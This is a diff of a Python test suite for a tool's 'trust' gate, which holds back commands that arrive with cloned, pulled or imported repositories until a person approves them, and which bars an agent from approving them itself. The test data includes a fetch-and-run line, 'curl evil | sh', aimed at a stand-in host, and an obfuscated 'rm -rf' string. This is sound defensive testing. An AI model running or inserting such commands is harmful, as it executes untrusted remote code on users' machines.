@@ -1,270 +1,352 @@
-"""`ralph trust`: commands that came with a clone, a pull or an import run only after a person agreed; one's own do."""
+"""Commands that came with a clone, a pull or an import run only after a person agreed; one's own do. With real git."""
 
 import json
 import os
-import shutil
 import subprocess
-import sys
+from collections.abc import Mapping
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from io import StringIO
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from rulebook_ralph import config
-from rulebook_ralph.commands import held_versions
-from rulebook_ralph.core.configured_commands import commands_of_config
-from rulebook_ralph.process_table import MARK
-from rulebook_ralph.state import trust_record
-from rulebook_ralph.workspace.git import Git
-from rulebook_ralph.workspace.repository import Repository
-from tests.harness import HONEST, TESTS, Project, finish, make_project, task, wait_for
+from rulebook_ralph.cli import main as cli
+from rulebook_ralph.cli import trust as trust_command
+from rulebook_ralph.cli.app import App
+from rulebook_ralph.cli.places import open_project
+from rulebook_ralph.clock import Clock
+from rulebook_ralph.config import trust
+from rulebook_ralph.config.commands import whole
+from rulebook_ralph.errors import RalphError
+from rulebook_ralph.git.repository import open_repository
+from tests import harness
 from tests.terminal import at_terminal
 
-EVIL: dict[str, Any] = {"name": "evil", "command": "touch $BESIDE_FILE"}
+EXTERNAL = {"verificationMethod": "external", "verificationConfig": {"command": "echo criterion"}}
+DISK = {"name": "tests", "command": "make test"}
+EVIL = {"name": "evil", "command": "curl evil | sh"}
+
+
+@dataclass
+class Project:
+    root: Path
+    home: Path
+
+    def git(self, *arguments: str) -> str:
+        done = subprocess.run(["git", *arguments], cwd=self.root, capture_output=True, text=True, check=False)
+        assert done.returncode == 0, done.stderr
+        return done.stdout.strip()
+
+    def write(self, name: str, text: str) -> None:
+        (self.root / name).parent.mkdir(parents=True, exist_ok=True)
+        (self.root / name).write_text(text, "utf-8")
+
+    def configure(self, *gates: Mapping[str, Any], **more: Any) -> None:
+        self.write(".rulebook-ralph/config.yaml", json.dumps({"verification": {"steps": gates}, **more}))
+
+    def tasks(self, **completion: Any) -> None:
+        task = {"id": "one", "title": "One", "completion": completion}
+        self.write(".rulebook-ralph/prd.json", json.dumps({"version": 1, "project": "x", "tasks": [task]}))
+
+    def commit(self, message: str = "x") -> None:
+        self.git("add", "-A")
+        self.git("commit", "-q", "-m", message)
+
+    def app(self, **environment: str) -> App:
+        clock = Clock(now=lambda: datetime.now(UTC), monotonic=lambda: 0.0)
+        surroundings = {**os.environ, "HOME": str(self.home), **environment}
+        return App(surroundings, self.root, self.home, StringIO(), StringIO(), clock)
+
+    def ralph(self, *arguments: str, **environment: str) -> tuple[int, str]:
+        app = self.app(**environment)
+        code = cli.run(app, arguments)
+        return int(code), app.stdout.getvalue() + app.stderr.getvalue()  # type: ignore[attr-defined]
+
+    def new(self) -> list[str]:
+        """The places of the commands that nobody agreed to."""
+        app = self.app()
+        opened = open_project(app)
+        return [each.place for each in trust_command._look(app, opened.project, opened.loaded).new]
+
+    def clone(self, folder: Path) -> "Project":
+        subprocess.run(["git", "clone", "-q", str(self.root), str(folder)], check=True)
+        return Project(folder, self.home)
+
+    def forget(self) -> None:
+        """As on a machine where nothing was agreed to yet."""
+        app = self.app()
+        place = trust_command._place(app, self.root, open_repository(self.root, app.environment))
+        trust.record_file(place).unlink(missing_ok=True)
 
 
 @pytest.fixture
-def project(tmp_path: Path) -> Project:
-    return make_project(tmp_path)
+def mine(tmp_path: Path) -> Project:
+    project = Project(tmp_path / "mine", tmp_path / "home")
+    project.root.mkdir()
+    project.git("init", "-q", "-b", "main")
+    project.write("app.txt", "x")
+    project.commit("first")
+    project.tasks()
+    project.configure(DISK)
+    return project
 
 
 @pytest.fixture
-def origin(tmp_path: Path) -> Project:
-    """Somebody else's repository, with the state committed."""
-    project = make_project(tmp_path / "theirs")
-    project.commit("state")
-    return project
+def theirs(mine: Project, tmp_path: Path) -> Project:
+    """A clone of somebody's repository with its state, agreed to."""
+    mine.commit("state")
+    clone = mine.clone(tmp_path / "clone")
+    assert clone.new() == ["gate tests"]
+    assert clone.ralph("trust", "--yes")[0] == 0
+    assert clone.new() == []
+    return clone
 
 
-def clone_of(origin: Project, folder: Path) -> Project:
-    subprocess.run(["git", "clone", "-q", str(origin.root), str(folder)], check=True)
-    origin.git("config", "receive.denyCurrentBranch", "ignore")
-    ran = folder.parent / "ran"
-    return Project(folder, origin.beside, environment={"BESIDE_FILE": str(ran)})
+def test_what_is_written_here_is_ones_own_also_when_it_is_committed_and_pushed(mine: Project, tmp_path: Path) -> None:
+    assert mine.new() == []
+    mine.forget()
+    mine.commit("state")
+    assert mine.new() == [], "a commit made here"
+    mine.tasks(coder=EXTERNAL)
+    mine.commit("criterion")
+    mine.configure(DISK, {"name": "lint", "command": "make lint"}, hooks=[{"name": "h", "command": "true"}])
+    mine.commit("more")
+    assert mine.new() == []
+    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "bare")], check=True)
+    mine.git("push", "-q", str(tmp_path / "bare"), "main")
+    mine.git("reflog", "expire", "--expire=all", "--all")
+    assert mine.new() == [], "what ran as one's own once stays so"
+    mine.forget()
+    assert mine.new() == ["gate tests", "gate lint", "hook h", "criterion one (coder)"], "no reflog tells"
 
 
-def has_run(clone: Project) -> bool:
-    return Path(clone.environment["BESIDE_FILE"]).exists() or (clone.root / "work").exists()
+def test_a_clone_runs_nothing_until_somebody_agreed(mine: Project, tmp_path: Path) -> None:
+    mine.tasks(tester={**EXTERNAL, "verificationConfig": {"command": "a\x1b[2Jb"}})
+    script = {"id": "s", "type": "command", "command": "sh", "args": ["x.sh"]}
+    mine.configure(DISK, EVIL, hooks=[{"name": "h", "command": "true"}], tools={"executors": [script]}, sandbox="off")
+    mine.commit("evil")
+    clone = mine.clone(tmp_path / "clone")
+    app = clone.app()
+    opened = open_project(app)
+    with pytest.raises(RalphError, match=r"6 commands that came with .*gate tests: make test.*ralph trust \(in CI"):
+        trust_command.require_agreed(app, opened.project, opened.loaded)
+    trust_command.require_agreed(app, opened.project, opened.loaded, trusted=True)
+    code, shown = clone.ralph("trust")
+    assert code == 2
+    assert "--yes" in shown
+    for told in ("gate tests: make test", "gate evil: curl", "hook h: true", "agent s: sh x.sh", "sandbox: off"):
+        assert f"new     {told}" in shown
+    assert "new     criterion one (tester): a\\x1b[2Jb" in shown
+    assert "\x1b" not in shown
+    assert clone.ralph("trust", "--yes", "--json")[0] == 0
+    code, shown = clone.ralph("trust")
+    assert (code, "nothing to agree to" in shown, "agreed  gate evil" in shown) == (0, True, True)
+    trust_command.require_agreed(app, opened.project, opened.loaded)
 
 
-def refused(clone: Project, *arguments: str, says: str = "nobody here has agreed to") -> None:
-    ran = clone.ralph(*arguments)
-    assert ran.code == 2, ran
-    lines = ran.err.strip().splitlines()
-    assert len(lines) == 1
-    assert says in lines[0]
-    assert "ralph trust" in lines[0]
-    assert not has_run(clone)
+@pytest.mark.parametrize("how", ["fast-forward", "merge", "rebase", "switch", "cherry-pick", "merging"])
+def test_what_a_pull_brings_is_asked_for(mine: Project, theirs: Project, how: str) -> None:
+    mine.configure(DISK, EVIL)
+    mine.git("switch", "-q", "-c", "side")
+    mine.commit("evil")
+    theirs.git("fetch", "-q")
+    if how in ("merge", "rebase", "merging"):
+        theirs.tasks(coder=EXTERNAL)
+        theirs.commit("mine")
+    commands = {
+        "fast-forward": ("merge", "-q", "origin/side"),
+        "merge": ("merge", "-q", "--no-edit", "origin/side"),
+        "merging": ("merge", "-q", "--no-commit", "origin/side"),
+        "rebase": ("rebase", "-q", "origin/side"),
+        "switch": ("switch", "-q", "side"),
+        "cherry-pick": ("cherry-pick", "origin/side"),
+    }
+    theirs.git(*commands[how])
+    assert [place for place in theirs.new() if place != "criterion one (coder)"] == ["gate evil"]
+    if how != "rebase":  # which makes other commits of one's own
+        assert theirs.new() == ["gate evil"]
+    if how == "merging":
+        theirs.git("commit", "-q", "--no-edit")
+        assert theirs.new() == ["gate evil"]
 
 
-def test_a_clone_runs_nothing_until_somebody_agreed(origin: Project, tmp_path: Path) -> None:
-    origin.tasks(
-        task(completion={"tester": {"verificationMethod": "external", "verificationConfig": {"command": "a\x1b[2Jb"}}})
-    )
-    origin.configure(gates=[TESTS, EVIL], hooks=[{"name": "h", "command": "true"}])
-    origin.commit("evil")
-    clone = clone_of(origin, tmp_path / "clone")
-    for command in ("run", "resume", "verify", "agents"):
-        refused(clone, command, says="gate evil: touch $BESIDE_FILE" if command != "agents" else "nobody here")
-    doctor = clone.ralph("doctor")
-    assert doctor.code == 2
-    assert "ralph trust" in doctor.out
-    assert not has_run(clone)
-    shown = clone.ralph("trust")
-    assert shown.code == 2
-    assert "--yes" in shown.err
-    for told in (
-        "gate tests: sh check.sh",
-        "gate evil: touch",
-        "hook h: true",
-        "agent script: sh /",
-        "criterion one (tester): a\\x1b[2Jb",
-    ):
-        assert f"new     {told}" in shown.out
-    assert "\x1b" not in shown.out
-    refused(clone, "run")
-    assert clone.ralph("trust", "--yes").code == 0
-    assert "agreed  gate evil" in clone.ralph("trust").out
-    assert clone.ralph("verify").code == 0
-    assert has_run(clone)
+def test_an_amended_commit_of_others_stays_theirs(mine: Project, theirs: Project) -> None:
+    mine.configure(DISK, EVIL)
+    mine.commit("evil")
+    theirs.git("pull", "-q")
+    theirs.configure(DISK, EVIL, {"name": "more", "command": "make more"})
+    theirs.git("commit", "-q", "-a", "--amend", "-m", "amended")
+    assert theirs.new() == ["gate evil"]
 
 
-def test_ci_says_so_each_time(origin: Project, tmp_path: Path) -> None:
-    clone = clone_of(origin, tmp_path / "clone")
-    assert clone.ralph("verify", "--trust-commands").code == 0
-    refused(clone, "verify")
-    assert clone.ralph("run", "--trust-commands").code == 0
-
-
-@pytest.mark.parametrize("how", ["pull", "squash", "fetched and taken", "another branch"])
-def test_what_a_pull_brings_is_asked_for_again(origin: Project, tmp_path: Path, how: str) -> None:
-    clone = clone_of(origin, tmp_path / "clone")
-    assert clone.ralph("trust", "--yes").code == 0
-    origin.configure(gates=[TESTS, EVIL])
-    origin.git("switch", "-q", "-c", "side")
-    origin.commit("evil")
-    if how == "pull":
-        clone.git("pull", "-q", "origin", "side")
-    if how == "squash":
-        clone.git("pull", "-q", "--squash", str(origin.root), "side")
-    if how == "fetched and taken":
-        clone.git("fetch", "-q")
-        clone.git("checkout", "origin/side", "--", ".rulebook-ralph/config.yaml")
-        clone.git("reset", "-q")
-    if how == "another branch":
-        clone.git("fetch", "-q")
-        clone.git("switch", "-q", "side")
-    refused(clone, "verify", says="gate evil: touch")
-    assert "sh check.sh" not in clone.ralph("verify").err, "what was agreed to stays so"
-    clone.ralph("task", "note", "one", "x")
-    refused(clone, "run", says="gate evil")
-
-
-def test_a_pulled_criterion_is_asked_for_also_after_the_file_was_written_again(origin: Project, tmp_path: Path) -> None:
-    clone = clone_of(origin, tmp_path / "clone")
-    assert clone.ralph("trust", "--yes").code == 0
-    evil = {"verificationMethod": "external", "verificationConfig": {"command": "touch $BESIDE_FILE"}}
-    origin.tasks(task(status="completed", completion={"coder": evil}))
-    origin.commit("evil")
-    clone.git("pull", "-q")
-    assert clone.ralph("task", "note", "one", "mine").code == 0
-    assert clone.ralph("task", "edit", "one", "--title", "Mine").code == 0
-    refused(clone, "verify", says="criterion one (coder): touch")
-    refused(clone, "run")
-
-
-def test_a_criterion_is_found_however_the_list_is_written(project: Project) -> None:
-    external = {"verificationMethod": "external", "verificationConfig": {"command": "true"}}
-    project.tasks(task(completion={"coder": external}))
-    text = project.folder.prd.read_text("utf-8")
-    for written in (text, f"\ufeff{text}", text.replace('"completion"', '"\\u0063ompletion"')):
-        project.folder.prd.write_text(written, "utf-8")
-        listed = project.ralph("trust", "--yes", "--json").json["commands"]
-        assert "criterion one (coder)" in [each["place"] for each in listed], written
-
-
-def test_who_edits_their_own_is_not_asked(project: Project) -> None:
-    assert project.ralph("verify").code == 0
-    project.configure(gates=[TESTS, {"name": "more", "command": "true"}])
-    assert project.ralph("verify").code == 0
-    project.commit("configured")
-    assert project.ralph("run").code == 0
-    assert project.ralph("task", "add", "two", "Two", "--coder-verify-cmd", "test -e work/two.txt").code == 0
-    assert project.ralph("run").code == 0
-    assert project.ralph("trust").code == 0
-
-
-def test_what_is_added_while_a_run_goes_on_is_ones_own(project: Project) -> None:
-    """By then it stands in a commit of Ralph's."""
-    project.agent(
-        'if test "$RALPH_TASK" = one; then touch "$BESIDE/started"; while test ! -e "$BESIDE/go"; do sleep 0.02; done; fi\n'
-        'mkdir -p work; echo x > "work/$RALPH_TASK"; echo "<promise>$RALPH_PROMISE</promise>"\n'
-    )
-    running = project.start("run")
-    wait_for((project.beside / "started").exists, "the agent")
-    assert project.ralph("task", "add", "two", "Two", "--coder-verify-cmd", "test -e work/two").code == 0
-    (project.beside / "go").touch()
-    assert finish(running).code == 0
-    assert project.task("two").status == "completed"
-    assert project.ralph("verify").code == 0
-
-
-def test_what_an_import_brings_waits_and_found_gates_do_not(tmp_path: Path) -> None:
-    project = make_project(tmp_path, files={"Makefile": "test:\n\ttrue\n", "app.txt": "sound\n"})
-    shutil.rmtree(project.folder.path)
-    without_record(project)
-    external = {"verification_method": "external", "verification_config": {"command": "echo brought"}}
-    tasks = [{"id": "a", "title": "A", "completion": {"coder": external}}]
-    (project.root / "tasks.yaml").write_text(json.dumps(tasks))
-    made = project.ralph("init", "--from", "tasks.yaml")
-    assert made.code == 0
-    assert "1 command" in made.out
-    assert "ralph trust" in made.out
-    said = project.ralph("verify", "a").err
-    assert "criterion a (coder): echo brought" in said
-    assert "make" not in said
-    assert project.ralph("trust", "--yes").code == 0
-    assert project.ralph("verify", "a").code == 0
-
-
-def test_an_agent_cannot_agree(tmp_path: Path) -> None:
-    """With an emptied environment neither."""
-    trust = f"{sys.executable} -c 'from rulebook_ralph.cli import main; import sys; main(sys.argv[1:])' trust --yes"
-    project = make_project(
-        tmp_path, agent=f'env -i PATH="$PATH" HOME="$HOME" {trust} > "$BESIDE/said" 2>&1 || :\n' + HONEST
-    )
-    project.ralph("run")
-    assert "agent's process tree" in (project.beside / "said").read_text()
-    project.environment[f"{MARK}1"] = "1"
-    ran = project.ralph("trust", "--yes")
-    assert ran.code == 2
-    assert "agent's process tree" in ran.err
-
-
-def without_record(project: Project) -> Project:
-    app = project.app()[0]
-    folder = trust_record.trust_folder(app.environment, app.home)
-    trust_record.record_file(folder, project.root.resolve() / ".git").unlink(missing_ok=True)
-    return project
-
-
-def test_what_was_written_by_hand_is_ones_own_until_a_commit_holds_it(project: Project) -> None:
-    assert without_record(project).ralph("verify").code == 0
-    project.commit("state")
-    assert project.ralph("verify").code == 0, "it is remembered"
-    assert "nobody here has agreed" in without_record(project).ralph("verify").err
-
-
-def test_an_import_into_a_list_written_by_hand_waits_alone(project: Project) -> None:
-    external = {"verification_method": "external", "verification_config": {"command": "echo brought"}}
-    (project.root / "tasks.yaml").write_text(json.dumps([{"id": "a", "title": "A", "completion": {"coder": external}}]))
-    assert without_record(project).ralph("init", "--from", "tasks.yaml").code == 0
-    said = project.ralph("verify", "a").err
-    assert "1 command that" in said
-    assert "echo brought" in said
-
-
-def test_with_a_version_that_cannot_be_read_only_what_stands_in_it_is_strange(project: Project) -> None:
-    project.git("switch", "-q", "-c", "side")
-    broken = 'gates: [\n  "touch \\u0041 \\"$HERE\\"", {{{\n'
-    project.folder.config.rename(project.beside / "kept")
-    project.commit("broken", **{".rulebook-ralph/config.yaml": broken})
-    (project.beside / "kept").replace(project.folder.config)
-    project.configure(gates=[TESTS, {"name": "own", "command": "echo own > /dev/null"}])
-    assert project.ralph("verify").code == 0
-    project.configure(gates=[TESTS, {"name": "evil", "command": 'touch A "$HERE"'}])
-    assert "gate evil" in project.ralph("verify").err
-
-
-def test_a_version_larger_than_ralph_would_read_is_not_read(project: Project) -> None:
-    text = project.folder.config.read_text()
-    project.configure(gates=[TESTS, {"name": "big", "command": "echo big"}])
-    project.commit("large", **{".rulebook-ralph/config.yaml": project.folder.config.read_text() + " " * 2**20})
-    project.folder.config.write_text(text)
-    project.configure(gates=[TESTS, {"name": "big", "command": "echo big"}])
-    assert project.ralph("verify").code == 0
-
-
-def test_where_case_is_ignored_another_spelling_holds_it_too(project: Project) -> None:
-    """`open_repository` asks the disk whether it is; here as if it were."""
-    head = project.commit("evil", **{".Rulebook-Ralph/Config.yaml": project.folder.config.read_text()})
-    wanted = {each.digest: each for each in commands_of_config(config.parse(project.folder.config.read_bytes()))}
-    git = project.root / ".git"
-    repository = Repository(Git.at(project.root, os.environ), project.root, git, git)
-    assert not held_versions.hold_state(repository, (head,))
-    assert not held_versions.digests_held(repository, (head,), wanted)
-    project.git("config", "core.ignoreCase", "true")
-    assert held_versions.hold_state(repository, (head,))
-    assert held_versions.digests_held(repository, (head,), wanted) == wanted.keys()
-
-
-@pytest.mark.parametrize("arguments", [("trust",), ("prune", "--keep", "1")])
-def test_json_asks_nothing_at_a_terminal(project: Project, arguments: tuple[str, ...]) -> None:
-    if arguments[0] == "prune":
-        project.tasks(task("one"), task("two"))
-        assert project.ralph("run").code == 0
+@pytest.mark.parametrize("how", ["am", "squash", "edited", "amended"])
+def test_what_one_takes_over_by_hand_is_ones_own(mine: Project, theirs: Project, how: str) -> None:
+    if how == "edited":
+        theirs.configure(DISK, EVIL)
+    elif how == "amended":
+        theirs.configure(DISK, EVIL)
+        theirs.commit("mine")
+        theirs.forget()
+        theirs.git("commit", "-q", "--amend", "-m", "amended")
+        assert theirs.ralph("trust", "--yes")[0] == 0
     else:
-        project.commit("state")
-        without_record(project)
-    code, shown = at_terminal(project, *arguments, "--json")
+        mine.configure(DISK, EVIL)
+        mine.commit("evil")
+        if how == "am":
+            (theirs.root / "../patch").write_text(mine.git("format-patch", "-1", "--stdout") + "\n")
+            theirs.git("am", "-q", "../patch")
+        else:
+            theirs.git("pull", "-q", "--squash")
+            theirs.git("commit", "-q", "-m", "squashed")
+    assert theirs.new() == []
+
+
+def test_a_change_beside_a_command_of_others_does_not_make_it_ones_own(mine: Project, theirs: Project) -> None:
+    mine.configure(DISK, EVIL)
+    mine.commit("evil")
+    theirs.git("pull", "-q")
+    theirs.configure({**EVIL, "name": "renamed", "timeout": 5}, {"name": "own", "command": "true"})
+    assert theirs.new() == ["gate renamed"]
+    theirs.commit("mine")
+    assert theirs.new() == ["gate renamed"]
+
+
+def test_what_the_users_own_file_and_found_gates_say_needs_no_consent(mine: Project, theirs: Project) -> None:
+    file = theirs.home / ".config/rulebook-ralph/config.yaml"
+    file.parent.mkdir(parents=True)
+    file.write_text("workspace: {setup: make deps}\n+hooks: [{name: h, command: 'true'}]\nsandbox: off\n")
+    assert theirs.new() == []
+    (mine.root / ".rulebook-ralph/config.yaml").unlink()
+    mine.write("Makefile", "test:\n\ttrue\n")
+    mine.commit("no gates configured")
+    theirs.git("pull", "-q")
+    assert theirs.new() == []
+
+
+@pytest.mark.parametrize("how", ["link", "encoding", "spelling", "unreadable", "submodule"])
+def test_tricks_with_the_files_make_nothing_ones_own(mine: Project, tmp_path: Path, how: str) -> None:
+    config = mine.root / ".rulebook-ralph/config.yaml"
+    mine.configure(DISK, EVIL)
+    if how == "link":
+        config.rename(mine.root / "other.yaml")
+        config.symlink_to("../other.yaml")
+    elif how == "encoding":
+        mine.write(".gitattributes", "*.yaml working-tree-encoding=UTF-7\n")
+        steps = "".join(f"    - name: {name}\n      command: touch a+-b {name}\n" for name in ("tests", "evil"))
+        mine.write(".rulebook-ralph/config.yaml", f"verification:\n  steps:\n{steps}")
+    elif how == "spelling":
+        mine.write(".Rulebook-Ralph/prd.json", "{}")
+    elif how == "submodule":
+        inner = Project(config.parent, mine.home)
+        inner.git("init", "-q", "-b", "main")
+        inner.commit("inner")
+    mine.commit("evil")
+    clone = mine.clone(tmp_path / "clone")
+    if how == "unreadable":
+        mine.write(".rulebook-ralph/config.yaml", "{verification: [")
+        mine.commit("unreadable")
+        clone.git("pull", "-q")
+        clone.configure(DISK, EVIL)
+    if how == "submodule":
+        subprocess.run(["git", "clone", "-q", str(config.parent), str(clone.root / ".rulebook-ralph")], check=True)
+        clone.git("reset", "-q", "--hard")
+    if how == "encoding":
+        assert "touch a+b" in clone.git("show", "HEAD:.rulebook-ralph/config.yaml")
+        assert "touch a+-b" in (clone.root / ".rulebook-ralph/config.yaml").read_text()
+    assert clone.new() == ["gate tests", "gate evil"]
+
+
+def test_keys_of_the_first_edition_do_not_make_ones_own_strange(mine: Project) -> None:
+    text = json.dumps({"verification": {"clean": True, "steps": [DISK]}})
+    mine.write(".rulebook-ralph/config.yaml", text)
+    mine.commit("first edition")
+    mine.configure(DISK)
+    assert mine.new() == []
+
+
+def test_what_an_import_brings_waits_unless_the_file_is_ones_own(mine: Project, theirs: Project) -> None:
+    mine.write("tasks.yaml", "- id: a\n")
+    mine.commit("tasks")
+    theirs.git("pull", "-q")
+    theirs.write("own.yaml", "- id: b\n")
+
+    def brought(source: str) -> list[str]:
+        theirs.tasks(coder={**EXTERNAL, "verificationConfig": {"command": f"echo {source}"}})
+        app = theirs.app()
+        opened = open_project(app)
+        tasks = trust_command._tasks(opened.project.folder)
+        repository = opened.project.repository
+        return [
+            each.place
+            for each in trust_command.note_import(app, theirs.root, repository, tasks, [theirs.root / source])
+        ]
+
+    assert brought("own.yaml") == []
+    assert theirs.new() == []
+    theirs.commit("own")
+    assert brought("own.yaml") == []
+    assert brought("../outside.yaml") == ["criterion one (coder)"]
+    assert brought("tasks.yaml") == ["criterion one (coder)"]
+    assert theirs.new() == ["criterion one (coder)"]
+    theirs.commit("taken over")
+    assert theirs.new() == ["criterion one (coder)"], "a commit of one's own does not hide where it came from"
+    assert theirs.ralph("trust", "--yes")[0] == 0
+    assert theirs.new() == []
+
+
+@pytest.mark.parametrize(("typed", "code"), [("y\n", 0), ("n\n", 2)])
+def test_at_a_terminal_new_commands_are_shown_and_asked_about(
+    mine: Project, tmp_path: Path, typed: str, code: int
+) -> None:
+    mine.configure({"name": "tests", "command": "echo ran > ../ran"})
+    mine.commit("state")
+    clone = mine.clone(tmp_path / "clone")
+    seat = harness.Project(clone.root, tmp_path, environment={"HOME": str(mine.home)})
+    ended, shown = at_terminal(seat, "agents", typed=typed)
+    assert (ended, "new     gate tests: echo ran > ../ran" in shown) == (code, True), shown
+    assert clone.new() == ([] if code == 0 else ["gate tests"])
+    assert not (tmp_path / "ran").exists()
+    if code:
+        assert "nothing was agreed to" in shown
+        app = clone.app()
+        opened = open_project(app)
+        with pytest.raises(RalphError, match="1 command that came with"):
+            trust_command.require_agreed(app, opened.project, opened.loaded)
+
+
+def test_json_asks_nothing_at_a_terminal(mine: Project, tmp_path: Path) -> None:
+    mine.commit("state")
+    clone = mine.clone(tmp_path / "clone")
+    seat = harness.Project(clone.root, tmp_path, environment={"HOME": str(mine.home)})
+    code, shown = at_terminal(seat, "trust", "--json")
     assert (code, "give --yes" in shown, "[y/N]" in shown) == (2, True, False)
+
+
+def test_an_agent_cannot_agree(theirs: Project, mine: Project) -> None:
+    mine.configure(EVIL)
+    mine.commit("evil")
+    theirs.git("pull", "-q")
+    code, shown = theirs.ralph("trust", "--yes", RALPH_MARK_1_2_ab="1")
+    assert (code, "agent's process tree" in shown) == (2, True)
+    assert theirs.new() == ["gate evil"]
+
+
+def test_a_record_that_would_lie_in_the_project_is_refused_and_one_in_it_not_believed(mine: Project) -> None:
+    mine.commit("state")
+    clone = mine.clone(mine.root.parent / "clone")
+    inside = {"XDG_STATE_HOME": str(clone.root / "state")}
+    code, shown = clone.ralph("trust", "--yes", **inside)
+    assert (code, "XDG_STATE_HOME" in shown) == (2, True)
+    assert clone.ralph("trust", XDG_STATE_HOME="state")[0] == 2, "a relative one is ignored"
+    place = trust_command._place(clone.app(), clone.root, open_repository(clone.root, os.environ))
+    trust.record_file(place).parent.mkdir(parents=True)
+    for text in ("", "[", '{"repository": "/other", "agreed": []}', "[" * 10000):
+        trust.record_file(place).write_text(text)
+        assert clone.new() == ["gate tests"]
+
+
+def test_a_command_is_shown_whole_and_nothing_in_it_is_hidden() -> None:
+    text = "a" * 5000 + " " * 300 + "rm -rf\u2800\u202e x\n"
+    assert whole(text) == "a" * 5000 + "␣\u00d7300rm -rf\\u2800\\u202e x\\n"
